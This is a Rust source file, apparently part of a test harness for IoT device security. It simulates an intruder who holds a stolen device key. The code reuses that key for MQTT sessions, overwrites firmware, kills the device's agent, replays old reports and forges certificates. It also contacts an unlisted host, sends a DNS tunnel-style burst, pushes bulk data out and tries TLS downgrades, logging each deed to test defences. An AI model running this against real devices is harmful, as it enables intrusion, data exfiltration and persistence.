//! Somebody who has taken a device: its real key, its place in the network, its files. What an
//! intruder does there, one deed after the other, and then every way back in.
//!
//! It tells each deed as a line of JSON as it happens. Nothing here harms a machine: the "volume"
//! goes to the sink of [`crate::outside`], the names asked for are made up.

use crate::credential::{Credential, Key, Presented, read_certificates};
use crate::device::{Doors, Manner};
use crate::est;
use crate::factory::{Factory, Flaw};
use crate::outside;
use crate::random::Random;
use crate::refusal::{Refusal, SetupError};
use crate::session::Session;
use crate::tls::{Client, Endpoint, Options, Versions};
use model::SerialNumber;
use mqtt::{Connect, Qos};
use rustls_pki_types::pem::PemObject;
use serde::{Deserialize, Serialize};
use std::io::{self, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// What the intruder knows and wants. Written by whoever stages the attack.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Plan {
    pub device: String,
    pub serial: String,
    /// The doors, and a name in their certificate.
    pub est: SocketAddr,
    pub mqtt: SocketAddr,
    pub server_name: String,
    pub roots: PathBuf,
    /// The device's identities, as they lie in its files.
    pub ldevid: Files,
    pub idevid: Files,
    /// Where connections come from, where addresses are shared.
    pub from: Option<IpAddr>,
    /// A topic of its own, and one of somebody else's.
    pub own_topic: String,
    pub foreign_topic: String,
    pub report_topic: String,
    /// To listen on.
    pub listen: SocketAddr,
    /// Unlisted: contacted, and sent to.
    pub unlisted: SocketAddr,
    pub volume_bytes: u64,
    pub resolver: SocketAddr,
    pub dns_queries: u32,
    pub firmware: PathBuf,
    /// The agent's process.
    pub agent: Option<i32>,
    /// Reports that the agent once sent.
    pub old_reports: Vec<String>,
    /// Kill the agent and replay before anything else.
    pub agent_first: bool,
    /// Other places to knock at in the end: the people's door, a neighbour.
    pub elsewhere: Vec<SocketAddr>,
    /// Between two deeds.
    pub pause_ms: u64,
    /// How long to hold the session at most.
    pub hold_seconds: u64,
    pub seed: u64,
}

/// Certificates and private key, PEM.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Files {
    pub certificate: PathBuf,
    pub key: PathBuf,
}

/// One line of the intruder's own account.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "line", rename_all = "kebab-case")]
pub enum Line {
    Deed {
        /// Milliseconds since 1970, when it began.
        at: u64,
        deed: String,
        outcome: String,
    },
    End(End),
}

/// What became of the session, and of each way back.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct End {
    /// The last publish that was acknowledged, the first that was denied, and when the session
    /// was closed; milliseconds since 1970.
    pub last_accepted: Option<u64>,
    pub first_denied: Option<u64>,
    pub closed: Option<u64>,
    /// Each way back: what was tried, whether it was refused, how.
    pub ways: Vec<Way>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Way {
    pub way: String,
    pub refused: bool,
    pub how: String,
}

const PATIENCE: Duration = Duration::from_secs(5);
const FORGERIES: usize = 6;
const DATAGRAM_BYTES: usize = 1400;
/// Between publishes while the session is held.
const BEAT: Duration = Duration::from_millis(250);
const FIRMWARE: &[u8] = b"firmware 3.1.0, with something added\n";

/// Does it all, telling each deed to `out`.
///
/// # Errors
/// The stage is not set: files, addresses. A deed that is refused is not an error.
pub fn run(plan: &Plan, out: &mut dyn Write) -> Result<(), SetupError> {
    let mut intruder = Intruder::new(plan, out)?;
    if plan.agent_first {
        intruder.kill_agent()?;
        intruder.replay()?;
    }
    intruder.open_port()?;
    intruder.swap_firmware()?;
    intruder.contact()?;
    intruder.reach_for_foreign()?;
    intruder.downgrade()?;
    intruder.forge()?;
    intruder.burst_dns()?;
    intruder.send_volume()?;
    if !plan.agent_first {
        intruder.kill_agent()?;
        intruder.replay()?;
    }
    intruder.hold()?;
    intruder.come_back()
}

struct Intruder<'a> {
    plan: &'a Plan,
    out: &'a mut dyn Write,
    doors: Doors,
    manner: Manner,
    ldevid: Credential,
    idevid: Presented,
    session: Result<Session, Refusal>,
    /// Held open.
    listening: Option<TcpListener>,
    end: End,
}

impl<'a> Intruder<'a> {
    /// Opens a session of its own beside the agent's, with the agent's key.
    fn new(plan: &'a Plan, out: &'a mut dyn Write) -> Result<Self, SetupError> {
        let roots = read_certificates(&plan.roots)?;
        let doors = Doors {
            est: Endpoint::new(plan.est, &plan.server_name, &roots)?,
            mqtt: Endpoint::new(plan.mqtt, &plan.server_name, &roots)?,
        };
        let ldevid = stolen(&plan.ldevid)?;
        let manner = Manner {
            patience: PATIENCE,
            ..Manner::default()
        };
        let mut intruder = Self {
            idevid: Presented::read(&plan.idevid.certificate, &plan.idevid.key)?,
            session: Err(Refusal::Closed),
            listening: None,
            end: End::default(),
            plan,
            out,
            doors,
            manner,
            ldevid,
        };
        let at = now();
        intruder.session = intruder.open_session();
        let outcome = match &intruder.session {
            Ok(_) => "a second session stands beside the agent's".to_owned(),
            Err(refusal) => refusal.to_string(),
        };
        intruder.tell(at, "copies the device's key and connects with it", &outcome)?;
        Ok(intruder)
    }

    fn open_session(&self) -> Result<Session, Refusal> {
        let client = self.client(&self.doors.mqtt, &self.ldevid.presented(), Versions::Both)?;
        let id = format!("{}:x", self.plan.device);
        Session::open(&client, &Connect::new(self.manner.version, &id), PATIENCE)
    }

    fn open_port(&mut self) -> Result<(), SetupError> {
        let at = now();
        let listener = TcpListener::bind(self.plan.listen);
        let outcome = said(&listener, "listening");
        self.listening = listener.ok();
        self.tell(
            at,
            &format!("opens port {}", self.plan.listen.port()),
            &outcome,
        )
    }

    fn swap_firmware(&mut self) -> Result<(), SetupError> {
        let at = now();
        let outcome = said(&std::fs::write(&self.plan.firmware, FIRMWARE), "swapped");
        self.tell(at, "swaps the firmware file", &outcome)
    }

    fn contact(&mut self) -> Result<(), SetupError> {
        let at = now();
        let outcome = said(&self.call_home(), "answered");
        let deed = format!("calls home at {}", self.plan.unlisted);
        self.tell(at, &deed, &outcome)
    }

    fn burst_dns(&mut self) -> Result<(), SetupError> {
        let at = now();
        let mut random = Random::new(self.plan.seed);
        let mut burst = || -> io::Result<()> {
            let socket = UdpSocket::bind((self.own_address(self.plan.resolver), 0))?;
            for number in 0..self.plan.dns_queries {
                let id = u16::try_from(number % 65_536).unwrap_or_default();
                let name = format!("{:016x}.tunnel.example", random.next());
                socket.send_to(&outside::query(id, &name), self.plan.resolver)?;
                // A socket buffer's worth at a time.
                if number % 32 == 31 {
                    std::thread::sleep(Duration::from_millis(2));
                }
            }
            Ok(())
        };
        let outcome = said(&burst(), "sent");
        let deed = format!("asks {} made-up names", self.plan.dns_queries);
        self.tell(at, &deed, &outcome)
    }

    /// By datagrams: they leave whether or not anything lets them through further on.
    fn send_volume(&mut self) -> Result<(), SetupError> {
        let at = now();
        let datagram = [b'x'; DATAGRAM_BYTES];
        let count = self.plan.volume_bytes / DATAGRAM_BYTES as u64;
        let send = || -> io::Result<()> {
            let socket = UdpSocket::bind((self.own_address(self.plan.unlisted), 0))?;
            for number in 0..count {
                socket.send_to(&datagram, self.plan.unlisted)?;
                if number % 64 == 63 {
                    std::thread::sleep(Duration::from_millis(1));
                }
            }
            Ok(())
        };
        let outcome = said(&send(), "gone");
        let deed = format!("sends {} MB out", self.plan.volume_bytes / 1_000_000);
        self.tell(at, &deed, &outcome)
    }

    fn reach_for_foreign(&mut self) -> Result<(), SetupError> {
        let at = now();
        let topic = self.plan.foreign_topic.clone();
        let outcome = self.publish(&topic, b"{\"open\":true}");
        let outcome = outcome_of(&outcome, "ACCEPTED");
        self.tell(at, &format!("tells {topic} to open"), &outcome)?;
        let at = now();
        let heard = match &mut self.session {
            Ok(session) => session.subscribe_one(&topic, Qos::AtLeastOnce).map(drop),
            Err(refusal) => Err(refusal.clone()),
        };
        if let Err(refusal) = heard.as_ref().map_err(Clone::clone)
            && refusal.ends_session()
        {
            self.close(refusal);
        }
        self.tell(
            at,
            &format!("listens to {topic}"),
            &outcome_of(&heard, "ACCEPTED"),
        )
    }

    /// The door for devices takes TLS 1.2 for small stacks; this device never used it before. The
    /// MQTT door does not take it at all.
    fn downgrade(&mut self) -> Result<(), SetupError> {
        let at = now();
        let shown = self.ldevid.presented();
        let outcome = self
            .client(&self.doors.est, &shown, Versions::Only12)
            .map_err(Refusal::from)
            .and_then(|client| est::cacerts(&client, PATIENCE).map(drop));
        let outcome = outcome_of(&outcome, "taken");
        self.tell(
            at,
            "asks for TLS 1.2 at the EST door, with the real key",
            &outcome,
        )?;
        let at = now();
        let outcome = self.connect(&shown, Versions::Only12);
        let outcome = outcome_of(&outcome, "TAKEN");
        self.tell(at, "asks for TLS 1.2 at the MQTT door", &outcome)
    }

    /// Certificates that nobody issued, and the device's own without its key.
    fn forge(&mut self) -> Result<(), SetupError> {
        let at = now();
        let factory = Factory::new("Somebody's CA", crate::now())?;
        let serial = SerialNumber::new(&self.plan.serial)
            .map_err(|invalid| SetupError::Argument(invalid.to_string()))?;
        let forged = factory.idevid(&serial, Flaw::None, crate::now())?;
        let borrowed = Credential::new(self.ldevid.chain().to_vec(), Key::generate()?)?;
        let mut last = String::new();
        for shown in [&forged, &borrowed].into_iter().cycle().take(FORGERIES) {
            last = outcome_of(&self.connect(&shown.presented(), Versions::Both), "TAKEN");
        }
        let deed = format!("shows {FORGERIES} bad certificates");
        self.tell(at, &deed, &last)
    }

    fn kill_agent(&mut self) -> Result<(), SetupError> {
        let at = now();
        let Some(agent) = self.plan.agent.and_then(rustix::process::Pid::from_raw) else {
            return Ok(());
        };
        let killed = rustix::process::kill_process(agent, rustix::process::Signal::KILL);
        let outcome = said(&killed.map_err(io::Error::from), "gone");
        self.tell(at, "kills the agent", &outcome)
    }

    fn replay(&mut self) -> Result<(), SetupError> {
        let at = now();
        let topic = self.plan.report_topic.clone();
        let mut last = Ok(());
        for report in &self.plan.old_reports {
            last = self.publish(&topic, report.as_bytes());
        }
        let outcome = outcome_of(&last, "acknowledged");
        let deed = format!("replays {} of its reports", self.plan.old_reports.len());
        self.tell(at, &deed, &outcome)
    }

    /// Keeps the session until it is gone.
    fn hold(&mut self) -> Result<(), SetupError> {
        let until = Instant::now() + Duration::from_secs(self.plan.hold_seconds);
        while self.session.is_ok() && Instant::now() < until {
            self.pass(BEAT)?;
        }
        let outcome = match &self.session {
            Ok(_) => "STILL OPEN".to_owned(),
            Err(refusal) => refusal.to_string(),
        };
        self.tell(now(), "holds on to its session", &outcome)
    }

    /// Lets time pass with an ear on the session, and speaks once in the device's own channel.
    fn pass(&mut self, time: Duration) -> Result<(), SetupError> {
        let until = Instant::now() + time;
        let topic = self.plan.own_topic.clone();
        match self.publish(&topic, b"{}") {
            Ok(()) => self.end.last_accepted = Some(now()),
            Err(refusal) if !refusal.ends_session() && self.end.first_denied.is_none() => {
                self.end.first_denied = Some(now());
                self.account(
                    now(),
                    "speaks in the device's own channel",
                    &refusal.to_string(),
                )?;
            }
            Err(_) => {}
        }
        while let Ok(session) = &mut self.session {
            match session.next(until) {
                Ok(Some(_)) => {}
                Ok(None) => return Ok(()),
                Err(refusal) => self.close(refusal),
            }
        }
        std::thread::sleep(until.saturating_duration_since(Instant::now()));
        Ok(())
    }

    fn close(&mut self, refusal: Refusal) {
        self.end.closed = self.end.closed.or(Some(now()));
        self.session = Err(refusal);
    }

    /// Every way in, once more.
    fn come_back(mut self) -> Result<(), SetupError> {
        let (ldevid, idevid) = (self.ldevid.presented(), self.idevid.clone());
        let by_session = self.connect(&ldevid, Versions::Both);
        self.way("MQTT with the device's certificate", &by_session)?;
        let by_idevid = self.connect(&idevid, Versions::Both);
        self.way("MQTT with the factory's certificate", &by_idevid)?;
        let again = self
            .client(&self.doors.est, &ldevid, Versions::Both)
            .map_err(Refusal::from)
            .and_then(|client| est::simplereenroll(&client, &self.ldevid, true, PATIENCE));
        self.way("a new certificate by the present one", &again.map(drop))?;
        let anew = self
            .client(&self.doors.est, &idevid, Versions::Both)
            .map_err(Refusal::from)
            .and_then(|client| {
                let (device, serial) = (&self.plan.device, &self.plan.serial);
                est::simpleenroll(&client, device, serial, PATIENCE)
            });
        self.way("a new certificate by the factory's", &anew.map(drop))?;
        for address in self.plan.elsewhere.clone() {
            let reached = TcpStream::connect_timeout(&address, Duration::from_secs(1));
            let how = said(&reached, "CONNECTED");
            self.push(format!("a connection to {address}"), reached.is_err(), how)?;
        }
        let end = std::mem::take(&mut self.end);
        self.write(&Line::End(end))
    }

    fn way(&mut self, way: &str, outcome: &Result<(), Refusal>) -> Result<(), SetupError> {
        let refused = outcome.as_ref().is_err_and(Refusal::is_by_server);
        self.push(way.to_owned(), refused, outcome_of(outcome, "LET IN"))
    }

    fn push(&mut self, way: String, refused: bool, how: String) -> Result<(), SetupError> {
        self.tell(now(), &format!("tries {way}"), &how)?;
        self.end.ways.push(Way { way, refused, how });
        Ok(())
    }

    fn publish(&mut self, topic: &str, payload: &[u8]) -> Result<(), Refusal> {
        let session = self.session.as_mut().map_err(|refusal| refusal.clone())?;
        let outcome = session.publish(topic, payload);
        if let Err(refusal) = &outcome
            && refusal.ends_session()
        {
            self.close(refusal.clone());
        }
        outcome
    }

    fn connect(&self, shown: &Presented, versions: Versions) -> Result<(), Refusal> {
        let client = self.client(&self.doors.mqtt, shown, versions)?;
        let id = format!("{}:y", self.plan.device);
        Session::open(&client, &Connect::new(self.manner.version, &id), PATIENCE)
            .map(Session::disconnect)
    }

    fn client(
        &self,
        endpoint: &Endpoint,
        shown: &Presented,
        versions: Versions,
    ) -> Result<Client, SetupError> {
        let options = Options {
            versions,
            ..Options::default()
        };
        Client::new(endpoint, Some(shown), &options)
    }

    fn call_home(&self) -> io::Result<()> {
        let mut connection = TcpStream::connect_timeout(&self.plan.unlisted, PATIENCE)?;
        connection.set_write_timeout(Some(PATIENCE))?;
        connection.write_all(b"here I am")
    }

    fn own_address(&self, towards: SocketAddr) -> IpAddr {
        let any: IpAddr = match towards {
            SocketAddr::V4(_) => std::net::Ipv4Addr::UNSPECIFIED.into(),
            SocketAddr::V6(_) => std::net::Ipv6Addr::UNSPECIFIED.into(),
        };
        self.plan.from.unwrap_or(any)
    }

    fn tell(&mut self, at: u64, deed: &str, outcome: &str) -> Result<(), SetupError> {
        self.account(at, deed, outcome)?;
        self.pass(Duration::from_millis(self.plan.pause_ms))
    }

    fn account(&mut self, at: u64, deed: &str, outcome: &str) -> Result<(), SetupError> {
        self.write(&Line::Deed {
            at,
            deed: deed.to_owned(),
            outcome: outcome.to_owned(),
        })
    }

    fn write(&mut self, line: &Line) -> Result<(), SetupError> {
        serde_json::to_writer(&mut *self.out, line)
            .map_err(io::Error::from)
            .and_then(|()| self.out.write_all(b"\n"))
            .and_then(|()| self.out.flush())
            .map_err(|source| SetupError::System {
                what: "take the intruder's account",
                source,
            })
    }
}

/// The key and the certificates of a device, as its files have them.
fn stolen(files: &Files) -> Result<Credential, SetupError> {
    let chain = read_certificates(&files.certificate)?;
    let key = rustls_pki_types::PrivatePkcs8KeyDer::from_pem_file(&files.key).map_err(|_| {
        SetupError::Pem {
            what: "private key (PKCS #8)",
            path: files.key.display().to_string(),
        }
    })?;
    Credential::new(chain, Key::from_pkcs8(key.secret_pkcs8_der())?)
}

fn said<T>(result: &io::Result<T>, done: &str) -> String {
    match result {
        Ok(_) => done.to_owned(),
        Err(error) => error.to_string(),
    }
}

fn outcome_of(result: &Result<(), Refusal>, done: &str) -> String {
    match result {
        Ok(()) => done.to_owned(),
        Err(refusal) => refusal.to_string(),
    }
}

fn now() -> u64 {
    crate::now().as_millis()
}
